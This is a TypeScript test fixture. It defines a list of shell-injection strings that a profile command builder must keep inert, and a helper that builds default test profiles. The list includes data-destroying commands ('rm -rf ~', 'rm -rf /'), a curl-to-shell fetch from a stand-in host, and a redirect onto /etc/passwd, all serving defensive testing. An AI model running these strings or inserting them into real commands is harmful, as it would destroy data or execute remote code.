import { PROFILE_FORMAT, PROFILE_VERSION, type Profile } from '../../../shared/profiles/schema';

/** Strings that must stay inert: never a second argv entry, never shell code. */
export const INJECTIONS = [
  '$(rm -rf ~)',
  '`touch /tmp/lal-pwned`',
  '; curl http://example.invalid/x | sh',
  'a\nb\nrm -rf /',
  "it's \"quoted\" \\ back\\slash",
  '--fp8',
  '${HOME} $HOME ~ * ? [a]',
  '&& echo hi || true &',
  '> /etc/passwd < /dev/null 2>&1',
  '一位女士在直播间介绍产品，语气亲切 😀',
  '\t leading and trailing space ',
  "'\\''",
];

export function profile(over: Partial<Profile> = {}): Profile {
  return {
    format: PROFILE_FORMAT,
    version: PROFILE_VERSION,
    name: 'test',
    recipe: 'rehearsal',
    mode: 'tpp-5gpu',
    inputs: {},
    settings: {},
    env: {},
    ...over,
  };
}
